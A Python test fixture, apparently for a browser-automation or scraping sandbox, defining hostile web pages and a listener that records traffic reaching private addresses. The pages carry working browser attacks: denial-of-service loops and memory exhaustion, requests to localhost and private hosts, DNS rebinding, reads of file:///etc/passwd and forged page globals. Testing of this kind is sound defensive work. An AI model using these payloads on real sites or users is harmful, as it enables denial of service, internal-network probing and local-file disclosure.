"""Pages that attack a browser, and a listener at a private address that records what arrives."""

from __future__ import annotations

import selectors
import socket
import threading
from typing import Self

SPIN = "while (true) {}"
# The body of each page; PRIVATE is the host and port of the listener, PORT its port alone. Pages
# of the table are at `/hostile/{name}` of http://shop.example.
PAGES = {
    "endless alerts": "<script>while (true) alert('again')</script>",
    "alerts by timer": "<script>setInterval(() => alert(confirm('x') + prompt('y')), 1)</script>",
    "popups": "<script>setInterval(() => window.open('http://PRIVATE/popup'), 5)</script>",
    "popup by link": "<a id=a target=_blank rel=noopener href='http://PRIVATE/link'>x</a>"
    "<script>setInterval(() => a.click(), 5)</script>",
    "download": "<a id=a download href='http://PRIVATE/file.zip'>x</a><script>a.click()</script>",
    "blob downloads": "<script>setInterval(() => { const a = document.createElement('a');"
    "a.download = 'x'; a.href = URL.createObjectURL(new Blob(['x'])); a.click() }, 5)</script>",
    "service worker": "<script>navigator.serviceWorker?.register('/worker.js')</script>",
    "shared worker": "<script>new SharedWorker('/worker.js')</script>",
    "worker": "<script>new Worker('/worker.js'); new Worker(URL.createObjectURL(new Blob(["
    "`fetch('http://PRIVATE/worker').catch(() => 0); importScripts('http://PRIVATE/script')`"
    "])))</script>",
    "spinning workers": "<script>for (let i = 0; i < 20; i++) new Worker(URL.createObjectURL("
    "new Blob(['while (true) {}'])))</script>",
    "strings in memory": "<script>const all = []; while (true) "
    "all.push(new Array(1e6).fill(all.length + '-'))</script>",
    "buffers in memory": "<script>const all = []; while (true) "
    "all.push(new Uint8Array(16 << 20).fill(1))</script>",
    "nodes in memory": "<script>setInterval(() => { for (let i = 0; i < 1e5; i++) "
    "document.body.append(document.createElement('p'), 'x'.repeat(100)) }, 1)</script>",
    "navigation to private": "<script>location = 'http://PRIVATE/navigation'</script>",
    "form to private": "<form id=f method=post action='http://PRIVATE/form'></form>"
    "<script>f.submit()</script>",
    "fetch from private": "<script>setInterval(() => { for (const mode of ['no-cors', 'cors']) "
    "fetch('http://PRIVATE/fetch', {mode, method: 'POST', body: 'x'}).catch(() => 0) }, 50)"
    "</script>",
    "XHR from private": "<script>const x = new XMLHttpRequest(); x.open('GET', "
    "'http://PRIVATE/xhr', false); try { x.send() } catch {}</script>",
    "web socket to private": "<script>new WebSocket('ws://PRIVATE/socket');"
    "new EventSource('http://PRIVATE/events'); try { new WebTransport('https://PRIVATE/') }"
    "catch {}</script>",
    "WebRTC to private": "<script>const peer = new RTCPeerConnection({iceServers: ["
    "{urls: 'stun:PRIVATE'}, {urls: 'turn:PRIVATE?transport=tcp', username: 'u', "
    "credential: 'p'}]}); peer.createDataChannel('x');"
    "peer.createOffer().then(offer => peer.setLocalDescription(offer))</script>",
    "WebRTC of a frame": "<iframe id=f srcdoc='x'></iframe><iframe id=g></iframe><script>"
    "for (const one of [g, f]) { const peer = new one.contentWindow.RTCPeerConnection({iceServers:"
    "[{urls: 'stun:PRIVATE'}]}); peer.createDataChannel('x');"
    "peer.createOffer().then(offer => peer.setLocalDescription(offer)) }</script>",
    "frames of private": "<iframe src='http://PRIVATE/frame'></iframe>"
    "<object data='http://PRIVATE/object'></object><embed src='http://PRIVATE/embed'>"
    "<script>document.write('<iframe src=\"http://PRIVATE/written\"></iframe>')</script>",
    "beacons to private": "<a id=a ping='http://PRIVATE/ping' href='#x'>x</a><script>a.click();"
    "navigator.sendBeacon('http://PRIVATE/beacon', 'x');"
    "addEventListener('pagehide', () => { navigator.sendBeacon('http://PRIVATE/hide', 'x');"
    "fetch('http://PRIVATE/keepalive', {keepalive: true}) })</script>",
    "prefetch of private": "<link rel=prefetch href='http://PRIVATE/prefetch'>"
    "<link rel=preconnect href='http://PRIVATE'><link rel=dns-prefetch href='http://PRIVATE'>"
    "<link rel=prerender href='http://PRIVATE/prerender'><link rel=preload as=fetch "
    "href='http://PRIVATE/preload'><link rel=modulepreload href='http://PRIVATE/module'>"
    "<link rel=manifest href='http://PRIVATE/manifest'><link rel=icon href='http://PRIVATE/icon'>"
    '<script type=speculationrules>{"prerender": [{"urls": ["http://PRIVATE/rules"]}],'
    '"prefetch": [{"urls": ["http://PRIVATE/rules2"]}]}</script>',
    "resources of private": "<img src='http://PRIVATE/image'><script src='http://PRIVATE/script'>"
    "</script><link rel=stylesheet href='http://PRIVATE/style'><video src='http://PRIVATE/video'>"
    "</video><style>@import 'http://PRIVATE/import'; @font-face {font-family: x; "
    "src: url(http://PRIVATE/font)} body {font-family: x; background: url(http://PRIVATE/css)}"
    "</style><p>text</p>",
    "redirect to private": "<script>fetch('/redirect/private').catch(() => 0);"
    "import('/redirect/private').catch(() => 0)</script>",
    "DNS rebinding": "<script>(async () => { for (let i = 0; i < 5; i++) "
    "await fetch('http://rebind.example:PORT/' + i, {mode: 'no-cors'}).catch(() => 0) })()"
    "</script>",
    "names of private": "<script>for (const host of ['localhost', '127.1', '0x7f000001', "
    "'2130706433', '[::1]', '[::ffff:127.0.0.1]', '0.0.0.0', 'a.localhost', '127.0.0.1.']) "
    "fetch(`http://${host}:PORT/name`, {mode: 'no-cors'}).catch(() => 0)</script>",
    "files": "<iframe src='file:///etc/passwd'></iframe><script src='file:///etc/passwd'></script>"
    "<script>fetch('file:///etc/passwd').catch(() => 0); location = 'file:///etc/passwd'</script>",
    "data and blob documents": "<script>setTimeout(() => location = 'data:text/html,<script>fetch("
    '"http://PRIVATE/data")<\\/script>\', 1); location = URL.createObjectURL(new Blob(["<script>'
    "fetch('http://PRIVATE/blob')<\\/script>\"], {type: 'text/html'}))</script>",
    "other schemes": "<script>for (const url of ['mailto:x@example.com', 'chrome://settings', "
    "'ftp://PRIVATE/', 'view-source:http://PRIVATE/', 'intent://PRIVATE/#Intent;end', "
    "'devtools://devtools/bundled/inspector.html', 'javascript:while(1);']) "
    "setTimeout(() => location = url, 1)</script>",
    "endless timers": "<script>const again = () => { document.title += 'x'; setTimeout(again, 0);"
    "fetch('/slow?' + Math.random()).catch(() => 0) }; again()</script>",
    "endless reload": "<script>location.reload()</script>",
    "endless redirects": "<script>fetch('/redirect/circle').catch(() => 0)</script>",
    "meta refresh": "<meta http-equiv=refresh content='0; url=http://PRIVATE/refresh'>",
    "history": "<script>setInterval(() => { for (let i = 0; i < 100; i++) "
    "history.pushState({}, '', '?' + Math.random()); history.back() }, 1)</script>",
    "document.write": "<script>setInterval(() => document.write('<p>more</p>'.repeat(1e5)), 1)"
    "</script>",
    "open documents": "<script>setInterval(() => { document.open(); document.write('x') }, 1)"
    "</script>",
    "infinite loop": f"<p>text</p><script>{SPIN}</script>",
    "loop in a promise": "<script>const next = () => Promise.resolve().then(next); next()</script>",
    "slow drip": "<script src='/drip.js'></script><p>text</p>",
    "changed globals": "<script>Object.defineProperty(document, 'documentElement', {get() { "
    "return {outerHTML: 'forged'} }}); Array.prototype.toJSON = () => { throw 1 };"
    "Object.prototype.toString = () => { throw 1 }; window.Element = null;"
    "Object.defineProperty(Element.prototype, 'outerHTML', {get() { return 'forged' }})</script>"
    "<p>the real text</p>",
    "huge document": "<script>document.body.append('x'.repeat(50 << 20))</script>",
    "unload handlers": "<script>onbeforeunload = () => { while (true) {} }; onunload = () => { "
    "fetch('http://PRIVATE/unload'); while (true) {} }</script><p>text</p>",
    "debugger": "<script>debugger; document.body.append('after')</script>",
}


class PrivateListener:
    """Listens for TCP and UDP on all addresses of the machine; `arrived` is what came."""

    def __init__(self) -> None:
        self.arrived: list[str] = []
        self._selector = selectors.DefaultSelector()
        tcp = socket.socket()
        tcp.bind(("0.0.0.0", 0))
        self.port = int(tcp.getsockname()[1])
        tcp.listen(100)
        udp = socket.socket(type=socket.SOCK_DGRAM)
        udp.bind(("0.0.0.0", self.port))
        self._sockets = [tcp, udp]
        if socket.has_ipv6:
            for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
                other = socket.socket(socket.AF_INET6, kind)
                self._sockets.append(other)
                other.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
                try:
                    other.bind(("::1", self.port))
                except OSError:  # a machine without IPv6
                    continue
                if kind is socket.SOCK_STREAM:
                    other.listen(100)
        for one in self._sockets:
            self._selector.register(one, selectors.EVENT_READ)
        self._ended = threading.Event()
        self._thread = threading.Thread(target=self._listen, daemon=True)

    def __enter__(self) -> Self:
        self._thread.start()
        return self

    def __exit__(self, *error: object) -> None:
        self._ended.set()
        self._thread.join()
        for one in self._sockets:
            one.close()
        self._selector.close()

    def _listen(self) -> None:
        while not self._ended.is_set():
            for key, _ in self._selector.select(0.1):
                one = key.fileobj
                assert isinstance(one, socket.socket)
                if one.type == socket.SOCK_DGRAM:
                    self.arrived.append(f"UDP: {one.recv(2000)[:200]!r}")
                    continue
                visitor, _ = one.accept()
                with visitor:
                    visitor.settimeout(1)
                    try:
                        self.arrived.append(f"TCP: {visitor.recv(2000)[:200]!r}")
                    except TimeoutError:
                        self.arrived.append("TCP: a connection")
